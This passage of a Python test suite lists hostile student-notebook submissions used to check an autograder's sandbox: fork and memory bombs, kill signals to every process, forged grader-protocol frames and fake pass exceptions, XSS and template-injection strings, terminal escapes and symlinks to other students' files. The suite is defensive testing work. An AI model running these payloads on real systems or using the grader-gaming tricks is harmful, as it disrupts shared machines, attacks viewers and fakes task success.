            "    for top in ('.', tempfile.gettempdir(), HOME, '/dev/shm', '/tmp'):\n"
            "        try:\n            os.makedirs(f'{top}/deep-@MARK@', exist_ok=True)\n"
            "            open(f'{top}/leak-@MARK@', 'a').write(repr(x))\n"
            "        except OSError: pass\n"
            "    open('mine', 'a').write(repr(x))",
        answers={"twice": "def twice(x):\n    leak(x)\n    return x + x",
                 "tripled": "def tripled(x):\n    leak(x)\n    return 3 * x"},
        last="tops = ('.', tempfile.gettempdir(), HOME, '/dev/shm', '/tmp')\n"
             "def seen(top):\n"
             "    try: return [name for name in os.listdir(top) if '@MARK@' in name]\n"
             "    except OSError: return []\n"
             "print('of a test:', sum(map(seen, tops), []), open('mine').read(), os.listdir('.'))",
    ),
    writes(
        "shared memory and semaphores that stay",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "print(libc.shmget(0x5eed, 4096, 0o1666), libc.semget(0x5eed, 1, 0o1666),\n"
        "      libc.msgget(0x5eed, 0o1666), libc.memfd_create(b'x', 0))\n"
        "from multiprocessing import shared_memory\n"
        "tried(lambda: shared_memory.SharedMemory('left-@MARK@', True, 4096).name)",
    ),
    writes(
        "owners and times of files that can be read",
        "path = sys.modules['course.check'].__file__\n"
        "tried(os.chmod, path, 0o777); tried(os.utime, path, (1, 1)); tried(os.chown, path, 1, 1)\n"
        "tried(os.truncate, path, 0); tried(os.setxattr, path, 'user.x', b'1')\n"
        "tried(os.open, path, os.O_TRUNC)",
    ),
    writes(
        "a process that goes on behind the notebook",
        "import ctypes, time\n"
        "if os.fork() == 0:\n"
        "    try:\n        os.setsid()\n    except OSError:\n        pass\n"
        "    if os.fork() == 0:\n"
        "        ctypes.CDLL(None).prctl(15, b'@MARK@', 0, 0, 0)\n"
        "        import signal\n        for s in (1, 2, 3, 15): signal.signal(s, signal.SIG_IGN)\n"
        "        while True: time.sleep(60)\n"
        "    os._exit(0)",
    ),
]  # fmt: skip

# --- ending or starving the run -----------------------------------------------------------------


def ends(name: str, body: str, outcome: str = "killed", **more: object) -> Attack:
    """A cell at the top that ends or starves the process: it costs nothing but itself."""
    return Attack("ending", name, own=body, outcome=outcome, **more)  # type: ignore[arg-type]


def stops(name: str, body: str, own: str = "", outcome: str = "ok", **more: object) -> Attack:
    """A function that ends or starves its own tests, and nothing else."""
    more.setdefault("points", NO_TWICE)
    answer = {"twice": f"def twice(x):\n    {body}"}
    more.setdefault("answers", answer)
    return Attack("ending", name, own=own, outcome=outcome, **more)  # type: ignore[arg-type]


LATE, GONE = "ran too long", "ended its own process"
RAW = """
import gc, socket, struct, msgpack
def raw(*messages):
    from autograder.inside.wire.conversation import Conversation
    end = next(o for o in gc.get_objects() if type(o) is Conversation)
    channel = end.channel
    channel.settimeout(None)
    for message in messages:
        if not isinstance(message, bytes):
            message = msgpack.packb(message)
            message = struct.pack('!I', len(message)) + message
        channel.sendall(message)
    return channel
"""
NEWS = "[[], [], []]"
ENDING = [
    ends("os._exit in a cell", "import os\nos._exit(0)", reason=GONE),
    stops("os._exit in a function", "import os; os._exit(0)", told=GONE),
    ends("SIGKILL to itself", "import os\nos.kill(os.getpid(), 9)", reason=GONE, own_signal=True),
    ends("SIGKILL to everybody", "import os\nos.kill(-1, 9)",
         outcome="killed or ok", loose=True),
    ends("SIGTERM and SIGSTOP to its group", "import os\nos.killpg(0, 15)\nos.kill(0, 9)",
         outcome="killed or ok", loose=True),
    ends("a segmentation fault", "import ctypes\nctypes.string_at(0)", reason=GONE),
    ends("abort", "import os\nos.abort()", reason=GONE),
    ends("stopped by SIGSTOP", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", "timeout",
         reason=LATE, own_signal=True),
    Attack("ending", "an endless loop in a cell", own="while True: pass", outcome="timeout",
           reason=LATE),
    stops("an endless loop in a function", "while True: pass", outcome="timeout", reason=LATE,
          told="too long"),
    Attack("ending", "an endless loop that catches everything once",
           own="try:\n    while True: pass\nexcept BaseException: pass\nwhile True: pass",
           outcome="timeout", reason=LATE),
    ends("an endless loop that catches everything",
         "def on():\n    while True:\n        try:\n            while True: pass\n"
         "        except BaseException: pass\non()", "timeout", reason=LATE, loose=True),
    ends("the alarm is ignored", "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
         "while True: pass", "timeout", reason=LATE),
    ends("the alarm has another handler and no timer",
         "import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)\n"
         "signal.setitimer(signal.ITIMER_REAL, 0)\nwhile True: pass", "timeout", reason=LATE),
    ends("all signals are blocked", "import signal, time\n"
         "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(99)", "timeout",
         reason=LATE),
    Attack("ending", "sleep", own="import time\ntime.sleep(99)", outcome="timeout", reason=LATE),
    stops("sleep in a function that closes its ears",
          "import signal, time; signal.pthread_sigmask(0, range(1, 65)); time.sleep(99)",
          outcome="timeout", reason=LATE),
    ends("a deadlock", "import threading, signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
         "lock = threading.Lock()\nlock.acquire(); lock.acquire()", "timeout", reason=LATE),
    Attack("ending", "a fork bomb", own="import os\nwhile True:\n    os.fork()",
           points=NOTHING, outcome="any", loose=True),
    Attack("ending", "a fork bomb of processes that work on",
           own="import os\nfor n in range(200):\n    try:\n        if os.fork() == 0:\n"
               "            while True: pass\n    except OSError: break",
           points=NOTHING, outcome="any", loose=True),
    Attack("ending", "thousands of threads", own="import threading, time\ntry:\n"
           "    for n in range(5000):\n        threading.Thread(target=time.sleep, args=(99,),\n"
           "                         daemon=True).start()\nexcept RuntimeError: print('no more')",
           points=NOTHING, outcome="any", loose=True),
    Attack("ending", "a memory bomb", own="import numpy as np\nheld = []\n"
                                          "while True: held.append(np.zeros(10**7))",
           outcome="out of memory", reason="memory"),
    Attack("ending", "a memory bomb of small pieces",
           own="import numpy as np\nheld = []\nwhile True: held.append(np.zeros(10**5))",
           outcome="out of memory", reason="memory"),
    Attack("ending", "a memory bomb of many processes",
           own="import os, time\nfor n in range(12):\n    if os.fork() == 0:\n        os.fork()\n"
               "        held = bytearray(b'x') * (4 * 10**8)\n        time.sleep(9)\n"
               "        os._exit(0)\ntime.sleep(1)",
           points=NOTHING, outcome="any", loose=True),
    stops("a memory bomb in a function", "return [np.zeros(10**7) for n in range(1000)]",
          told="allocate|memory"),
    Attack("ending", "a disk that is filled",
           own="try:\n    for n in range(10**6):\n        open(f'{n}', 'wb').write(bytes(10**7))\n"
               "except OSError as error: print(error)", points=NOTHING, outcome="any", loose=True),
    Attack("ending", "a disk that is filled with files",
           own="try:\n    for n in range(10**5): open(f'{n}', 'w').close()\n"
               "except OSError as error: print(error)", points=NOTHING, outcome="any", loose=True),
    Attack("ending", "a disk that is filled at once", own="import ctypes, os\n"
           "libc, none = ctypes.CDLL(None), ctypes.c_long(0)\nfor n in range(200):\n"
           "    file = os.open(f'{n}', os.O_RDWR | os.O_CREAT)\n    for how in (0, 1):\n"
           "        libc.syscall(285, file, how, none, ctypes.c_long(2**26))\n    os.close(file)"),
    Attack("ending", "files that are mapped and have no name any more",
           own="import mmap, os\nheld = []\nfor n in range(400):\n"
               "    with open('big', 'w+b') as file:\n        file.truncate(2**23)\n"
               "        held.append(mmap.mmap(file.fileno(), 2**23))\n    os.unlink('big')\n"
               "    held[-1][:] = bytes([1]) * 2**23",
           points=NOTHING, outcome="any", loose=True),
    Attack("ending", "locks on what all may read, kept", own="import fcntl, glob, os, course\n"
           "held = [open(p) for p in glob.glob(os.path.dirname(course.__file__) + '/*.py')[:20]]\n"
           "for file in held: fcntl.flock(file, fcntl.LOCK_EX)"),
    Attack("ending", "a flood of output", own="import sys\nfor n in range(5):\n"
           "    print('x' * 10**7)\n    sys.stderr.write('y' * 10**5)"),
    Attack("ending", "a flood of output from many cells", edit=lambda nb: nb.cells.extend(
        new_code_cell(f"print('é' * 20000, {n})") for n in range(900)) or nb),
    Attack("ending", "a flood of output while a test calls", answers={
        "twice": "def twice(x):\n    print('x' * 10**7)\n    return 2 * x"}),
    stops("recursion without end", "return twice(x)", told="calls itself"),
    stops("recursion without a limit", "return twice(x)", "import sys, threading\n"
          "sys.setrecursionlimit(10**9)", outcome="any"),
    Attack("ending", "an integer that never ends", own="n = 9\nn**n**n**n", outcome="any",
           points=NOTHING, loose=True),
    stops("an integer that is too long", "return 10 ** 10**6", told="integer"),
    stops("a text that is too long", "return 'x' * 10**8", told="text"),
    stops("an array that is too large", "return np.zeros(10**8, bool)[:, None] * x",
          told="allocate|memory|too large|bytes"),
    stops("lists that are too deep", "a = []\n    for n in range(10**5): a = [a]\n    return a",
          told="deep"),
    stops("lists that hold each other", "a = [[]]; a[0].extend([a, a, a]); return a",
          told="themselves|each other"),
    stops("a list of very many lists", "return [[0] for n in range(10**6)]", outcome="any"),
    stops("keys that all collide",
          "return {(0,) * 40 + (n * (2**61 - 1),): 0 for n in range(20_000)}", outcome="any"),
    stops("a generator without an end instead of an array", "return (v for v in iter(int, 1))",
          told="iterator|generator"),
    Attack("ending", "a generator without an end",
           answers={"portions": "def portions(x, size):\n    while True: yield x[:3]"},
           points={"test_portions": 0}, outcome="timeout", reason=LATE),
    Attack("ending", "a generator of large arrays without an end",
           answers={"portions": "def portions(x, size):\n    while True: yield np.ones(10**7)"},
           points={"test_portions": 0}, outcome="any"),
    Attack("ending", "a generator that asks to be asked itself",
           answers={"portions": "class It:\n    def __iter__(self): return self\n"
                    "    def __next__(self): return next(self)\n"
                    "def portions(x, size):\n    yield from It()"},
           points={"test_portions": 0}, told="RecursionError"),
    stops("a deadlock in __del__", "return Stuck()", "import time\nclass Stuck:\n"
          "    def __del__(self): time.sleep(99)", told="Stuck"),
    Attack("ending", "something slow at exit", own="import atexit, time\n"
           "atexit.register(time.sleep, 99)\nimport threading\n"
           "threading._register_atexit(time.sleep, 99)"),
    ends("an error that takes for ever to say",
         "class Slow(Exception):\n    def __str__(self):\n        while True: pass\nraise Slow()",
         "timeout", reason=LATE),
    stops("an error of a function that takes for ever to say", "raise Slow()",
          "class Slow(Exception):\n    def __str__(self):\n        while True: pass",
          "any", told="raised `Slow`|too long"),
    Attack("ending", "an error whose class lies about itself",
           own="class Meta(type):\n    __mro__ = property(lambda c: 1 / 0)\n"
               "    __name__ = property(lambda c: 5)\n"
               "class Odd(Exception, metaclass=Meta): pass\nraise Odd()",
           points=NOTHING, outcome="any", loose=True),
    stops("an error of a function whose class lies about itself", "raise Odd()",
          "class Meta(type):\n    __mro__ = property(lambda c: (5, None))\n"
          "class Odd(Exception, metaclass=Meta): pass", outcome="any"),
    ends("stdout is replaced by what never returns",
         "import sys, time, signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
         "class Out:\n    def write(self, text): time.sleep(99)\n    flush = isatty = write\n"
         "sys.stdout = sys.__stdout__ = Out()\nprint('x')", "timeout", reason=LATE),
    ends("all descriptors are closed", "import os\nos.closerange(0, 4096)", reason=GONE),
    Attack("ending", "no descriptor is left",
           own="import os\nheld = []\ntry:\n    while True: held.append(os.open('/dev/null', 0))\n"
               "except OSError: pass", points=NOTHING, outcome="any", loose=True),
    ends("nonsense on every descriptor", "import os\nfor fd in range(3, 64):\n    try:\n"
         "        os.write(fd, b'\\xff' * 4096)\n    except OSError: pass", reason=GONE),
    ends("the worker's loop is replaced", 
         "import autograder.inside.wire.frames as f\nf.send = print", "timeout", reason=LATE),
    Attack("ending", "a twin that answers, too", own="import os\nos.fork()",
           points=NOTHING, outcome="any", loose=True),
    stops("a frame that is too long", "return raw(b'\\xff\\xff\\xff\\xff')", RAW, told="bytes"),
    stops("a frame that never comes", "return raw(b'\\x00\\x00\\x01\\x00x').recv(1)", RAW,
          "timeout", reason=LATE),
    stops("a frame of nonsense", "return raw(b'\\x00\\x00\\x00\\x04\\xc1\\xc1\\xc1\\xc1')", RAW,
          told="format"),
    stops("a frame of nested nonsense", "return raw(struct.pack('!I', 90000) + b'\\x91' * 90000)",
          RAW, told="format"),
    stops("a message of another form", f"raw(['value']); raw([['value', 1, 2], {NEWS}, '']); "
          "return raw(1)", RAW, told="format"),
    stops("chatter without end", f"while True: raw([['has', 'x'], {NEWS}, 'x' * 10**5])", RAW,
          outcome="any"),
    stops("prints without an answer", f"c = raw([['call', ['yours', 1], [], []], {NEWS}, 'x'])\n"
          "    while True: c.recv(10**6)", RAW, outcome="any"),
    Attack("ending", "the tests' function called for ever",
           answers={"slope": "def slope(f, x, h=0):\n    while True: f(x)"},
           points=NO_SLOPE, outcome="timeout", reason=LATE),
    Attack("ending", "a product of integers without end, in the tests' function",
           answers={"slope": "def slope(f, x, h=0):\n"
                    "    f(np.array([2**9990 + n for n in range(2_000)], dtype=object))"},
           points={**FULL, **NO_SLOPE, "test_portions": 0, **NO_TRIPLED}, outcome="timeout",
           reason="was ended"),
    Attack("ending", "an array that grows in the tests' function",
           answers={"slope": "def slope(f, x, h=0):\n    a = np.lib.stride_tricks.as_strided(\n"
                    "        np.zeros(1), (10**7, 1, 1), (0, 0, 0))\n    f(a)\n    return x"},
           points=NO_SLOPE, outcome="any"),
    Attack("ending", "recursion through the tests' function",
           answers={"slope": "class V:\n    def prod(self): return self.f(self)\n"
                    "def slope(f, x, h=0):\n    v = V(); v.f = f; return f(v)"},
           points=NO_SLOPE),
    Attack("ending", "many cells that take their time", edit=lambda nb: nb.cells.extend(
        new_code_cell("import time\ntime.sleep(1)") for n in range(60)) or nb,
        outcome="timeout", reason="cells of your own"),
    Attack("ending", "a sum that Python cannot parse", own="x = " + "-" * 20_000 + "1",
           outcome="out of memory"),
    Attack("ending", "brackets that Python cannot parse", own="x = " + "(" * 9_000),
    Attack("ending", "a cell whose colours take for ever",
           own="%%writefile notes\n" + "a." * 25_000 + "a"),
]  # fmt: skip

# --- gaming the checks --------------------------------------------------------------------------


def games(name: str, body: str, own: str = "", **more: object) -> Attack:
    """`twice` is wrong and tries to pass."""
    return lies(name, body, own, "gaming", **more)


GAMING = [
    games("the visible case, written down", "return np.array([2.0, 6.0])"),
    games("what was asked before", "seen.append(x)\n    return 2 * seen[0]", "seen = []"),
    games("an answer that depends on the number of calls",
          "global n\n    n += 1\n    return 2 * x if n < 2 else x", "n = 0"),
    games("notes that are kept between tests", "open('notes', 'a').write(str(x))\n"
          "    return np.array([2.0, 6.0])"),
    games("the caller's frame", "return next(v for f in frames() for v in f.values()\n"
          "                if isinstance(v, np.ndarray) and v is not x and v.shape == x.shape)",
          "import sys\ndef frames():\n    f = sys._getframe()\n    while f:\n"
          "        yield f.f_locals; yield f.f_globals\n        f = f.f_back"),
    games("its argument changed until it fits", "x[...] = 0\n    return x", told="changed "
                                                                                 "its input"),
    games("its argument doubled in place", "x *= 2\n    return x", told="changed its input"),
    games("its argument in another shape", "x.shape = (1, *x.shape)\n    return 2 * x",
          told="changed its input"),
    games("its argument itself", "return x"),
    games("a view of its argument", "return x[::-1]"),
    games("itself", "return twice"),
    games("a function", "return lambda: 2 * x"),
    games("a class", "return np.ndarray"),
    games("NumPy's own function", "return np.add"),
    games("the chapter's own function", "return half"),
    games("NotImplemented", "return NotImplemented"),
    games("an ellipsis", "return ..."),
    games("nothing, and prints it", "print(2 * x)"),
    games("CheckFailed", "raise check.CheckFailed('Fine.', None)", told="with `CheckFailed`"),
    games("a kind of CheckFailed", "raise Fine('`twice`: passed.')",
          "from course import check\nclass Fine(check.CheckFailed):\n    mistake = None"),
    games("SystemExit", "raise SystemExit(0)", told="exit called"),
    games("exit", "exit(0)", told=""),
    games("StopIteration", "raise StopIteration", told="RuntimeError|StopIteration"),
    games("KeyboardInterrupt", "raise KeyboardInterrupt", told="KeyboardInterrupt"),
    games("GeneratorExit", "raise GeneratorExit", told="GeneratorExit"),
    games("BaseException", "raise BaseException('done')", told="BaseException|Exception"),
    games("an error called TooSlow", "raise TooSlow()", "class TooSlow(Exception): pass",
          outcome="any"),
    games("an error called SandboxError", "raise SandboxError('x')",
          "class SandboxError(BaseException): pass"),
    games("an error called CellTimeoutError", "raise CellTimeoutError('x')",
          "class CellTimeoutError(BaseException): pass"),
    games("a group of errors", "raise ExceptionGroup('several', [ValueError('x')])"),
    games("an error without any text", "raise Mute()", "class Mute(Exception):\n"
          "    def __str__(self): raise self\n    __repr__ = __str__"),
    games("an error that claims to be of the tests", "raise Mine()",
          "class Mine(Exception):\n    def __init__(self):\n"
          "        self.__dict__['_raised_by_the_tests'] = 1"),
    games("check.passed is called", "check.passed('twice')\n    return x"),
    games("it looks whether it is graded", "return x if graded() else 2 * x",
          "import sys\ndef graded(): return 'autograder.inside.running.warm' in sys.modules"),
    games("the tests' random numbers, from a seed of its own", "return 2 * np.array(\n"
          "        [1.0, 3.0] if len(x) == 2 else check.rng().normal(size=7))",
          "import random, numpy as np\nnp.random.seed(0); random.seed(0)\n"
          "from course import check\ncheck.SEED = 0\n"
          "check.rng = lambda: np.random.default_rng(0)"),
    games("global random numbers", "np.random.seed(0)\n    return np.random.normal(size=len(x))",
          "import numpy as np\nnp.random.set_state(np.random.RandomState(1).get_state())"),
    games("a generator instead of an array", "yield from 2 * x"),
    games("a coroutine", "return later(x)", "async def later(x): return 2 * x"),
    Attack("gaming", "a function that is asynchronous",
           answers={"twice": "async def twice(x):\n    return 2 * x"}, points=NO_TWICE),
    Attack("gaming", "a class instead of a function", answers={
        "twice": "class twice(np.ndarray):\n    def __new__(cls, x): return x.view(cls)"},
        points=NO_TWICE),
    Attack("gaming", "an object instead of a function", answers={
        "twice": "class Any:\n    def __getattr__(self, name): return self\n"
                 "    def __call__(self, *a): return self\ntwice = Any()"}, points=NO_TWICE),
    Attack("gaming", "the chapter's data spoiled for the next test",
           answers={"tripled": "def tripled(x):\n    x[...] = 0\n    return x"},
           points=NO_TRIPLED, told="changed its input"),
    Attack("gaming", "the chapter's data spoiled and put right",
           answers={"tripled": "def tripled(x):\n    old = x.copy()\n    x[...] = 0\n"
                    "    out = x.copy()\n    x[...] = old\n    return out"}, points=NO_TRIPLED),
    Attack("gaming", "pieces that are right, and one more", answers={
        "portions": RIGHT["portions"] + "\n    yield x"}, points={"test_portions": 0}),
    Attack("gaming", "pieces that end with an error", answers={
        "portions": "def portions(x, size):\n    yield x[:3]\n    raise StopIteration"},
        points={"test_portions": 0}),
    Attack("gaming", "a generator that is handed on",
           answers={"portions": "def portions(x, size):\n    g = portions(x, size)\n    yield g"},
           points={"test_portions": 0}),
    Attack("gaming", "the tests' function instead of the slope",
           answers={"slope": "def slope(f, x, h=0):\n    return f"}, points=NO_SLOPE),
    Attack("gaming", "the tests' function with all it can be given",
           answers={"slope": "def slope(f, x, h=0):\n"
                    "    for a in (None, f, slope, 'x', x, [x], {}, 1j, 10**99, object(), "
                    "np.sin):\n"
                    "        try:\n            f(a); f(a, a); f(v=a)\n"
                    "        except Exception: pass\n    return 0 * x"}, points=NO_SLOPE),
    Attack("gaming", "the tests' function's error handed back",
           answers={"slope": "def slope(f, x, h=0):\n    f(None)"}, points=NO_SLOPE,
           told="AttributeError|TypeError"),
    games("raw: the argument as the answer", f"raw([['value', ['=', 0]], {NEWS}, '']).recv(1)", RAW,
          outcome="any"),
    games("raw: handles that were never given",
          f"raw(*[[['value', ['yours', n]], {NEWS}, ''] for n in range(9)]).recv(1)", RAW,
          told="passed on", outcome="any"),
    games("raw: the names of other functions",
          f"raw([['value', ['name', '', 'check']], {NEWS}, '']).recv(1)", RAW, told="passed on",
          outcome="any"),
    games("raw: modules as names", f"raw([['value', ['name', 'os', 'system']], {NEWS}, "
                                   f"'']).recv(1)",
          RAW, told="passed on", outcome="any"),
    games("raw: an error that is the tests' own",
          f"raw([['error', [['CheckFailed', 'AssertionError'], 'x', [], 1]], {NEWS}, '']).recv(1)",
          RAW, outcome="any"),
    games("raw: an error of no kind",
          f"raw([['error', [[], 'x', [[1, 2, 3, 4]], 'x']], {NEWS}, '']).recv(1)", RAW,
          told="passed on", outcome="any"),
    games("raw: the chapter's names put", f"raw([['put', 'check', 1], {NEWS}, '']).recv(1)", RAW,
          outcome="any"),
    games("raw: an array of objects that claims bytes",
          f"raw([['value', ['a', '|O', [2], b'x' * 16, 'C']], {NEWS}, '']).recv(1)", RAW,
          told="passed on", outcome="any"),
    games("raw: a window beyond its array",
          f"raw([['value', ['v', 0, 8, '<f8', [2], [8], True]], {NEWS}, '']).recv(1)", RAW,
          told="passed on", outcome="any"),
    games("raw: a shared array made longer",
          "raw([['value', ['=', 0]], [[[0, ['a', '<f8', [2**40], b'']]], [], []], '']).recv(1)",
          RAW,
          told="passed on", outcome="any"),
    games("parameters that are no names", "return x",
          last="twice.__code__ = twice.__code__.replace(co_varnames=('class',), co_name='<b>')\n"
               "twice.__name__ = '<script>'"),
]  # fmt: skip

# --- hostile display ----------------------------------------------------------------------------

SCRIPT = "<script>alert('live')</script><img src=x onerror=alert('live')>"
MARKUP = (
    SCRIPT + "<iframe src='javascript:alert(1)'></iframe><object data='live'></object>"
    "<svg onload=alert('live')><style>*{display:none}</style></svg><embed src='live'>"
    "<form action='javascript:alert(1)'><button>live</button></form><base href='//live'>"
    "<meta http-equiv=refresh content='0;url=//live'><link rel=stylesheet href='//live'>"
)


def prose(name: str, text: str, **more: object) -> Attack:
    """An answer in words; a person has yet to read it."""
    return Attack("display", name, answers={"why": text}, points={"why": None}, **more)  # type: ignore[arg-type]


def shows(name: str, own: str, **more: object) -> Attack:
    """Right answers, and a cell that shows something."""
    return Attack("display", name, own=own, **more)  # type: ignore[arg-type]


def markdown_cells(notebook: NotebookNode) -> NotebookNode:
    """Texts between the cells, and a locked one that was edited."""
    notebook.cells.insert(1, new_markdown_cell(MARKUP))
    notebook.cells[0].source += MARKUP
    notebook.cells.append(nbformat.v4.new_raw_cell(MARKUP))
    return notebook


LINKS = """[a](javascript:alert(1)) [b](JaVaScript:alert(1)) [c](java&#115;cript:alert(1))
[d](javascript&colon;alert(1)) <javascript:alert(1)> ![e](javascript:alert(1)) [f][r] [r]
[g](data:text/html,<script>alert(1)</script>) [h](vbscript:x) [i](<javascript:alert(1)>)
[j](feed:javascript:alert(1)) [k](\tjavascript:alert(1)) ![l](data:image/svg+xml;base64,PHN2Zz4=)
[m](a "x" onclick=alert(1)) ![n" onerror="alert(1)](x) ![o](//live/pixel.png)

[r]: javascript:alert(1)
"""
FENCES = f"""```"><script>alert('live')</script>
x
```
```{{=html}}
{SCRIPT}
```
    {SCRIPT}
`{SCRIPT}` ${SCRIPT}$ $${SCRIPT}$$ \\begin{{a}}{SCRIPT}\\end{{a}}
| <b onclick=alert(1)>x</b> | {SCRIPT} |
|---|---|
| {SCRIPT} | x |

# {SCRIPT}
<!-- {SCRIPT} --><![CDATA[ {SCRIPT} ]]><?php {SCRIPT} ?>
<scr<script>ipt>alert('live')</script> <SCRIPT/x>alert('live')</SCRIPT>
<div
onclick=alert(1)>x</div>
&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;
"""
DISPLAY = [
    prose("scripts and markup in an answer in words", MARKUP),
    prose("links that run in an answer in words", LINKS),
    prose("scripts in fences, formulas, tables and comments", FENCES),
    prose("formulas that run", r"$\href{javascript:alert(1)}{x}$ $\require{html}\style{a}{b}$"),
    prose("templates", "{{ 7 * 7 }} {% include '/etc/passwd' %} {{ resources }} ${7*7} <%= 7 %>"),
    prose("a very long answer in words", "[" * 50_000 + "\n" + "\\begin{a}" * 60_000),
    prose("a very deep answer in words", ">" * 50_000 + "\n\n" + "- " * 50_000),
    Attack("display", "texts between the cells", edit=markdown_cells,
           points={"why": None}),
    shows("HTML in prints", f"print({MARKUP!r})\nimport sys\nprint({MARKUP!r}, file=sys.stderr)"),
    shows(
        "HTML, SVG, JavaScript, Markdown and LaTeX displayed",
        "from IPython.display import *\n"
        f"for kind in (HTML, SVG, Javascript, Markdown, Latex):\n"
        f"    try:\n        display(kind({SCRIPT!r}))\n    except Exception as e: print(e)\n"
        "display(IFrame('//live', 9, 9)); display({'text/html': 'live'}, raw=True)\n"
        f"HTML({SCRIPT!r})",
    ),
    shows("cell magics for HTML and JavaScript", f"%%html\n{SCRIPT}"),
    shows("cell magics for JavaScript", "%%javascript\nalert('live')"),
    shows(
        "an object that shows itself",
        "class Rich:\n"
        + "".join(f"    def {m}(self, *a, **k): return {SCRIPT!r}\n" for m in (
            "_repr_html_", "_repr_svg_", "_repr_javascript_", "_repr_markdown_", "__repr__",
            "_repr_mimebundle_", "_ipython_display_"))
        + "Rich()",
    ),
    shows("HTML in an error's text", f"raise ValueError({MARKUP!r})"),
    Attack(
        "display",
        "HTML in an error's name",
        answers={"twice": f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})"},
        points=NO_TWICE,
        told="did not run",
    ),
    Attack(
        "display",
        "a usual cause of its own, in an answer that does not run",
        answers={"twice": f"raise ValueError({f'x{chr(10)}Usual cause: {SCRIPT}. '!r})"},
        points=NO_TWICE,
        told="did not run",
    ),
    Attack(
        "display",
        "a usual cause of its own, in a function",
        answers={"line": f"class CheckFailed(Exception): pass\n{RIGHT['line']} if len(x) > 1 "
                         f"else fail()\ndef fail():\n    raise CheckFailed('x\\nUsual cause: "
                         f"{SCRIPT}.')".replace("'live'", "1")},
        points={"test_line_flat": 0},
    ),
    Attack(
        "display",
        "a terminal's commands and turned text in an error",
        answers={"line": RIGHT["line"] + " if len(x) > 1 else fail()\ndef fail():\n    raise "
                         "ValueError('\\x1b]0;live\\x07\\x1b[2J\\x9b31m\\u202elive\\u2066\\x00\\x08')"},
        points={"test_line_flat": 0},
    ),
    shows(
        "a terminal's commands and turned text in prints",
        "print('\\x1b]0;live\\x07\\x1b[2J\\x9b31m\\u202elive\\u2066\\x00\\x08\\r')",
    ),
    Attack(
        "display",
        "a terminal's commands in the line that took too long",
        own="x = '\x1b]0;live\x07\x1b[2J\u202elive'\nwhile True: pass",
        outcome="timeout",
        reason="ran too long",
    ),
    Attack(
        "display",
        "a terminal's commands in an error's name",
        answers={"twice": "raise type('\\x1b[2J\\u202e\\x00', (Exception,), {})('\\x1b[2J')"},
        points=NO_TWICE,
        told="did not run",
    ),
    lies("HTML as the answer", f"return {SCRIPT!r}", kind="display"),
    lies("HTML as the answer's class", "return Made()", f"Made = type({SCRIPT!r}, (), {{}})",
         "display"),
    lies("HTML as the error of a function", f"raise ValueError({MARKUP!r})", kind="display",
         told="ValueError"),
    Attack(
        "display",
        "HTML in names, docstrings and comments",
        answers={"twice": f"def twice(x, *, a={SCRIPT!r}):\n    \"\"\"{MARKUP}\"\"\"\n"
                          f"    # {MARKUP}\n    return 2 * x\ntwice.__doc__ = {SCRIPT!r}"},
    ),
    Attack(
        "display",
        "lines that turn and letters that hide",
        answers={"twice": "def twice(x):\n    # \u202e x nruter \u2066\u200b\ufeff\n"
                          "    return 2 * x"},
    ),
    shows("a very long line", f"x = '{'y' * 50_000}'\nprint(x)"),
    Attack("display", "HTML in the notebook's metadata",
           edit=named(title=MARKUP, authors=[{"name": MARKUP}], language_info={"name": MARKUP})),
    shows("warnings with HTML", f"import warnings\nwarnings.warn({MARKUP!r})"),
]  # fmt: skip

# --- hostile intake -----------------------------------------------------------------------------


def as_json(change: Callable[[dict[str, object]], object]) -> Edit:
    """An edit of the JSON."""

    def edit(notebook: NotebookNode) -> bytes:
        data = json.loads(nbformat.writes(notebook))
        change(data)
        return json.dumps(data).encode()

    return edit


def as_text(change: Callable[[str], bytes]) -> Edit:
    """An edit of the text."""
    return lambda notebook: change(nbformat.writes(notebook))


def linked(path: Path, neighbour: Path) -> None:
    path.symlink_to(neighbour / CHAPTER / f"{CHAPTER}.ipynb")


def linked_folder(path: Path, neighbour: Path) -> None:
    path.parent.rmdir()
    path.parent.symlink_to(neighbour / CHAPTER)


def linked_student(path: Path, neighbour: Path) -> None:
    path.parent.rmdir()
    path.parents[1].rmdir()
    path.parents[1].symlink_to(neighbour)


def pipe(path: Path, _neighbour: Path) -> None:
    os.mkfifo(path)


def door(path: Path, _neighbour: Path) -> None:
    where = os.open(path.parent, os.O_PATH)
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(f"/proc/self/fd/{where}/{path.name}")
    finally:
        os.close(where)


def folder(path: Path, _neighbour: Path) -> None:
    path.mkdir()


def refused(name: str, edit: Edit | None = None, reason: str = "", **more: object) -> Attack:
    """What is no submission."""
    return Attack(
        "intake", name, edit=edit, points=NOTHING, outcome="invalid", reason=reason, **more
    )  # type: ignore[arg-type]


def accepted(name: str, edit: Edit | None = None, **more: object) -> Attack:
    """What is odd and can be graded."""
    return Attack("intake", name, edit=edit, **more)  # type: ignore[arg-type]


def cells_of(data: dict[str, object]) -> list[dict[str, object]]:
    cells = data["cells"]
    assert isinstance(cells, list)
    return cells


INTAKE = [
    refused("a link to a neighbour's notebook", place=linked, reason="is a link"),
    refused("a folder that is a link to a neighbour's", place=linked_folder, reason="is a link"),
    refused("a student that is a link to a neighbour", place=linked_student, reason="is a link"),
    refused("a pipe", place=pipe, reason="special file"),
    refused("a socket", place=door, reason="special file"),
    refused("a folder", place=folder, reason="is a folder"),
    refused("lists in lists", lambda nb: b"[" * 200_000 + b"]" * 200_000, "deep"),
    refused("objects in objects", lambda nb: b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "deep"),
    refused("a string without an end", lambda nb: b'{"cells": "' + b"\\" * 300_000),
    refused("a file that is too large", lambda nb: b" " * (21 * 2**20) + b"{}", "larger"),
    refused("a million values", lambda nb: b"[" + b"0," * 10**6 + b"0]", "values"),
    refused("a notebook of too many cells", as_json(
        lambda d: cells_of(d).extend([{"cell_type": "raw", "metadata": {}, "source": ""}] * 2500)),
        "cells"),
    refused("a cell that is too long", as_json(
        lambda d: cells_of(d).append(
